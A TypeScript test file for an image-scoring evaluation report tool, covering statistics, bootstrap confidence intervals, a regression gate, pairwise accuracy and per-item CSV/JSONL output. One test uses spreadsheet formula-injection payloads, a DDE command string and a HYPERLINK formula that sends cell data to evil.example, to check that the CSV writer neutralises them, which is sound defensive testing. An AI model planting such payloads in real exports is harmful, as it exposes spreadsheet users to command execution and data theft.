import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { buildReport, describeGate, type PointScore, type PairScore, type ReportInput } from '../src/eval/report.js';
import { softmax } from '../src/score/similarity.js';
import { pointwiseRecord, renderScoresCsv, renderScoresJsonl } from '../src/eval/scores-file.js';
import { restoreCsvText } from '../src/io/writers/csv.js';

function point(model: string | null, prompt: string, image: string, score: number | null, error: string | null = null): PointScore {
  return { model, prompt, image, path: `/data/${image}`, score, error };
}

/** Scores chosen so every figure can be worked by hand. */
const points: PointScore[] = [
  point('a', 'p1', 'a1.png', 20), point('a', 'p1', 'a2.png', 22), point('a', 'p2', 'a3.png', 18),
  point('a', 'p3', 'broken.png', null, 'truncated PNG data'),
  point('b', 'p1', 'b1.png', 23), point('b', 'p2', 'b2.png', 17.5), point('b', 'p3', 'b3.png', 25),
];

function input(overrides: Partial<ReportInput> = {}, options: ReportInput['options'] = {}): ReportInput {
  return { points, pairs: [], provenance: null, incomplete: false, manifests: ['m.jsonl'], skippedLines: 2, notReached: 0, options, ...overrides };
}

test('per-model figures: n, mean, sample std, median, per-prompt means, errors, best and worst', () => {
  const report = buildReport(input());
  assert.equal(report.schemaVersion, 2);
  assert.deepEqual(report.counts, { pointwise: 7, pairwise: 0, errors: 1, skippedLines: 2, notReached: 0 });
  const [a, b] = report.models;
  // a: 20, 22, 18 -> mean 20, deviations 0, 2, -2 -> sample variance 8 / 2 = 4.
  assert.deepEqual([a.model, a.n, a.errors, a.mean, a.std, a.median], ['a', 3, 1, 20, 2, 20]);
  assert.deepEqual(a.perPrompt, [
    { prompt: 'p1', n: 2, mean: 21, best: { image: 'a2.png', path: '/data/a2.png', score: 22 } },
    { prompt: 'p2', n: 1, mean: 18, best: { image: 'a3.png', path: '/data/a3.png', score: 18 } },
  ], 'each prompt names the best of its images, for the grid');
  assert.deepEqual(a.best.map((e) => e.image), ['a2.png', 'a1.png', 'a3.png']);
  assert.deepEqual(a.worst, [], 'with three scores every one is already among the best');
  // b, from Python: statistics.mean([23, 17.5, 25]), statistics.stdev(...)
  assert.equal(b.n, 3);
  assert.ok(Math.abs(b.mean! - 21.833333333333332) < 1e-12);
  assert.ok(Math.abs(b.std! - 3.8837267325770144) < 1e-12);
  assert.equal(b.median, 23);
  assert.ok(a.ci95.low! <= 20 && a.ci95.high! >= 20 && a.ci95.low! >= 18 && a.ci95.high! <= 22, 'the CI lies within the data range around the mean');
  assert.deepEqual(report.errors, [{ prompt: 'p3', image: 'broken.png', error: 'truncated PNG data' }]);
  // Histograms share the range of all scores, [17.5, 25]; 25 falls in the last of 20 bins.
  assert.deepEqual([b.histogram.low, b.histogram.high], [17.5, 25]);
  assert.equal(b.histogram.counts[19], 1);
  assert.equal(b.histogram.counts[0], 1);
  assert.equal(a.histogram.counts.reduce((x, y) => x + y, 0), 3);
});

test('paired comparison over shared prompts: win rate, mean difference, its paired CI and the sign test', () => {
  const [c] = buildReport(input()).comparisons;
  // Shared prompts p1, p2 (a has no score for p3). Prompt means a: 21, 18; b: 23, 17.5; differences 2, -0.5.
  assert.deepEqual([c.baseline, c.candidate, c.prompts, c.wins, c.losses, c.ties, c.winRate, c.meanDiff], ['a', 'b', 2, 1, 1, 0, 0.5, 0.75]);
  // Two differences: each resample mean is -0.5, 0.75 or 2 with chances 1/4, 1/2, 1/4; the 2.5% and 97.5%
  // quantiles of 10,000 such means are the extremes.
  assert.deepEqual(c.ci95, { low: -0.5, high: 2 });
  // One win, one loss: 2 * P(X <= 1), X ~ Bin(2, 1/2), capped at 1.
  assert.equal(c.signTestP, 1);
  assert.deepEqual(c.largestGains.map((s) => [s.prompt, s.diff, s.baseline.image, s.candidate.image]), [['p1', 2, 'a2.png', 'b1.png']]);
  assert.deepEqual(c.largestDrops.map((s) => [s.prompt, s.diff]), [['p2', -0.5]]);
});

test('the gate fails only when the upper end of the paired CI is below -max-drop, and says why either way', () => {
  const pass = buildReport(input({}, { baseline: 'a', candidate: 'b' })).gate!;
  assert.equal(pass.worse, false);
  assert.equal(pass.reason, 'PASS: b is not worse than a beyond 0: mean(b - a) = 0.75 over 2 prompts, 95% CI [-0.5, 2], whose upper end is at or above 0');

  // Every prompt drops by 1 to 1.5, so every resample mean lies in [-1.5, -1].
  const drops = [
    point('base', 'q1', 'x1', 20), point('base', 'q2', 'x2', 20), point('base', 'q3', 'x3', 20),
    point('cand', 'q1', 'y1', 19), point('cand', 'q2', 'y2', 18.5), point('cand', 'q3', 'y3', 18.9),
  ];
  const fail = buildReport(input({ points: drops }, { baseline: 'base', candidate: 'cand', maxDrop: 0.5 })).gate!;
  assert.equal(fail.worse, true);
  assert.ok(fail.ci95.high! <= -1 && fail.ci95.low! >= -1.5);
  assert.match(fail.reason, /^FAIL: cand is worse than base: mean\(cand - base\) = -1\.2 over 3 prompts, 95% CI \[-1\.\d+, -1(\.\d+)?\], whose upper end is below -0\.5$/);
  const tolerant = buildReport(input({ points: drops }, { baseline: 'base', candidate: 'cand', maxDrop: 2 })).gate!;
  assert.equal(tolerant.worse, false, 'a drop within the margin passes');

  const disjoint = [point('base', 'q1', 'x1', 20), point('cand', 'q2', 'y2', 19)];
  assert.throws(() => buildReport(input({ points: disjoint }, { baseline: 'base', candidate: 'cand' })), /Cannot gate: cand and base have no scored prompt in common/);
  const interrupted = buildReport(input({ points: disjoint, incomplete: true }, { baseline: 'base', candidate: 'cand' })).gate!;
  assert.deepEqual([interrupted.worse, interrupted.reason.split(':')[0]], [false, 'UNDECIDED']);
  assert.throws(() => buildReport(input({}, { baseline: 'a', candidate: 'zzz' })), /Expected a model of the manifest \(a, b\) for --candidate but received "zzz"/);
  assert.throws(() => buildReport(input({}, { candidate: 'a' })), /--candidate needs --baseline/);
});

function pair(prompt: string, score0: number, score1: number, label0: 0 | 0.5 | 1): PairScore {
  return { prompt, image0: `${prompt}-0.png`, image1: `${prompt}-1.png`, path0: `/d/${prompt}-0.png`, path1: `/d/${prompt}-1.png`, label0, score0, score1, error: null };
}

test('pairwise accuracy: the threshold from the flag, the default, or chosen on the validation pairs', () => {
  // Score differences 0.1 (prob diff 0.05) and 3 (prob diff 0.905).
  const pairs = [pair('t', 20.1, 20, 0.5), pair('u', 23, 20, 1), pair('v', 20, 23, 1)];
  const byDefault = buildReport(input({ points: [], pairs })).pairwise!;
  assert.deepEqual([byDefault.threshold, byDefault.thresholdSource, byDefault.paper.points, byDefault.n], [0, 'default', 1.5, 3]);
  assert.deepEqual(byDefault.tiesExcluded, { accuracy: 0.5, correct: 1, n: 2 });
  const byFlag = buildReport(input({ points: [], pairs }, { tieThreshold: 0.1 })).pairwise!;
  assert.deepEqual([byFlag.thresholdSource, byFlag.paper.points, byFlag.paper.predictedTies], ['flag', 2, 1]);
  const validation = { manifest: 'val.jsonl', pairs: [pair('w', 20.2, 20, 0.5), pair('x', 22, 20, 1)] };
  const chosen = buildReport(input({ points: [], pairs }, { validation })).pairwise!;
  // Validation prob differences 0.0997 and 0.762: thresholds 0.1 .. 0.7 score 2 of 2; 0.1 is the first.
  assert.deepEqual([chosen.threshold, chosen.thresholdSource, chosen.validation?.n], [0.1, 'validation', 2]);
  assert.equal(buildReport(input()).pairwise, null, 'no pairwise rows, no pairwise section');
});

test('every other model is compared with the baseline, or with the first model: one comparison per model, not one per pair', () => {
  const three = [...points, point('c', 'p1', 'c1.png', 19), point('c', 'p2', 'c2.png', 21)];
  const pairsOf = (options: ReportInput['options']): string[][] => buildReport(input({ points: three }, options)).comparisons.map((c) => [c.baseline, c.candidate]);
  assert.deepEqual(pairsOf({}), [['a', 'b'], ['a', 'c']], 'without --baseline, against the first model');
  assert.deepEqual(pairsOf({ baseline: 'b' }), [['b', 'a'], ['b', 'c']]);
  const gated = buildReport(input({ points: three }, { baseline: 'b', candidate: 'c' }));
  assert.deepEqual(gated.comparisons.map((c) => [c.baseline, c.candidate]), [['b', 'a'], ['b', 'c']], 'the gate does not hide the other models');
  assert.deepEqual([gated.gate!.baseline, gated.gate!.candidate, gated.gate!.prompts], ['b', 'c', 2]);
  // c - b per prompt: 19 - 23 and 21 - 17.5.
  assert.equal(gated.gate!.meanDiff, (19 - 23 + 21 - 17.5) / 2);
});

test('the gate sentence names models through the given function and keeps every figure', () => {
  const gate = buildReport(input({}, { baseline: 'a', candidate: 'b' })).gate!;
  assert.equal(describeGate(gate), gate.reason);
  assert.equal(describeGate(gate, (m) => `<${m.toUpperCase()}>`),
    'PASS: <B> is not worse than <A> beyond 0: mean(<B> - <A>) = 0.75 over 2 prompts, 95% CI [-0.5, 2], whose upper end is at or above 0');
});

test('pairwise mistakes: every pair short of a point, wrong before half-right, the most confident first; they account for every lost point', () => {
  // t: a tie label, image 0 predicted (0.5 points). u: right. v: wrong, prob gap 0.905. w: wrong, prob gap 0.462.
  const pairs = [pair('t', 20.1, 20, 0.5), pair('u', 23, 20, 1), pair('v', 20, 23, 1), pair('w', 21, 20, 0)];
  const pw = buildReport(input({ points: [], pairs })).pairwise!;
  assert.deepEqual(pw.mistakes.map((m) => [m.prompt, m.points, m.predicted]), [['v', 0, 0], ['w', 0, 1], ['t', 0.5, 1]]);
  const [v] = pw.mistakes;
  const [prob0, prob1] = softmax([20, 23]);
  assert.deepEqual([v.prob0, v.prob1, v.score0, v.score1, v.label0, v.image0, v.path1], [prob0, prob1, 20, 23, 1, 'v-0.png', '/d/v-1.png']);
  assert.equal(pw.paper.points, pw.paper.n - pw.mistakes.reduce((lost, m) => lost + 1 - m.points, 0));
  const tolerant = buildReport(input({ points: [], pairs }, { tieThreshold: 0.1 })).pairwise!;
  assert.deepEqual(tolerant.mistakes.map((m) => [m.prompt, m.points]), [['v', 0], ['w', 0]], 'a predicted tie on a tie label earns its point');
  const broken = { ...pair('x', 20, 21, 1), score1: null, error: 'unreadable' };
  assert.equal(buildReport(input({ points: [], pairs: [...pairs, broken] })).pairwise!.mistakes.length, 3, 'a pair that could not be scored is an error, not a mistake');
});

test('NaN never reaches the JSON: an empty model has null figures', () => {
  const report = buildReport(input({ points: [point('only-errors', 'p', 'x.png', null, 'unreadable')] }));
  const m = report.models[0];
  assert.deepEqual([m.n, m.mean, m.std, m.median, m.ci95], [0, null, null, null, { low: null, high: null }]);
  assert.doesNotThrow(() => JSON.parse(JSON.stringify(report)));
});

test('per-item scores: JSON Lines as given, CSV with the union of fields and extra fields passed through', () => {
  const records = [
    { manifest: 'm.jsonl', line: 1, kind: 'pointwise', model: 'a', prompt: 'say "hi", ok', image: 'a.png', score: 20.5, error: null, seed: 3 },
    { manifest: 'm.jsonl', line: 2, kind: 'pairwise', prompt: 'p', image_0: 'x.png', label_0: 0.5, score_0: null, error: 'unreadable', tags: ['a'] },
  ];
  assert.equal(renderScoresJsonl(records).split('\n').length, 3);
  assert.equal(renderScoresCsv(records), [
    'manifest,line,kind,model,prompt,image,score,error,seed,image_0,label_0,score_0,tags',
    'm.jsonl,1,pointwise,a,"say ""hi"", ok",a.png,20.5,,3,,,,',
    'm.jsonl,2,pairwise,,p,,,unreadable,,x.png,0.5,,"[""a""]"',
    '',
  ].join('\n'));
});

test('per-item CSV: text a spreadsheet would run as a formula gets a leading quote; numbers stay numbers; restoreCsvText undoes it', () => {
  const records = [
    { manifest: 'm.jsonl', line: 1, kind: 'pointwise', model: '+cmd|calc!A0', prompt: '=HYPERLINK("http://evil.example/?x="&A1,"click")', image: '@a.png', score: -5.4, error: '-x', '=field': '\tlead', seed: -3 },
    { manifest: 'm.jsonl', line: 2, kind: 'pointwise', model: "'=already", prompt: "it's fine", image: "'quoted.png", score: 20.5, error: null, '=field': '\rcr', seed: 0 },
  ];
  const rows = parseCsv(renderScoresCsv(records));
  assert.deepEqual(rows[0], ['manifest', 'line', 'kind', 'model', 'prompt', 'image', 'score', 'error', "'=field", 'seed']);
  assert.deepEqual(rows[1], ['m.jsonl', '1', 'pointwise', "'+cmd|calc!A0", `'=HYPERLINK("http://evil.example/?x="&A1,"click")`, "'@a.png", '-5.4', "'-x", "'\tlead", '-3']);
  assert.deepEqual(rows[2], ['m.jsonl', '2', 'pointwise', "''=already", "it's fine", "'quoted.png", '20.5', '', "'\rcr", '0']);
  const restored = rows.map((row) => row.map(restoreCsvText));
  assert.deepEqual(restored[1].slice(3, 6), [records[0].model, records[0].prompt, records[0].image]);
  assert.deepEqual(restored[2].slice(3, 6), [records[1].model, records[1].prompt, records[1].image]);
  assert.deepEqual([restored[0][8], restored[1][8], restored[2][8]], ['=field', '\tlead', '\rcr']);
});

test('a per-item record puts the schema first; a manifest field named like one of its fields does not replace it', () => {
  const record = pointwiseRecord({
    kind: 'pointwise', manifest: 'm.jsonl', line: 3, prompt: 'p', image: { given: 'a.png', path: '/d/a.png' }, model: null, id: null,
    extra: { score: 'from the manifest', seed: 7 },
  }, 21.25, null);
  assert.deepEqual(Object.keys(record), ['manifest', 'line', 'kind', 'id', 'model', 'prompt', 'image', 'score', 'error', 'seed']);
  assert.equal(record.score, 21.25);
});

/** An independent CSV parser (Python's csv module) over text. */
function parseCsv(text: string): string[][] {
  return JSON.parse(execFileSync('/usr/bin/python3', ['-c', 'import csv, json, sys, io; print(json.dumps(list(csv.reader(io.StringIO(sys.stdin.buffer.read().decode("utf-8"), newline="")))))'],
    { input: text, encoding: 'utf8', env: { ...process.env, PYTHONIOENCODING: 'utf-8' } })) as string[][];
}
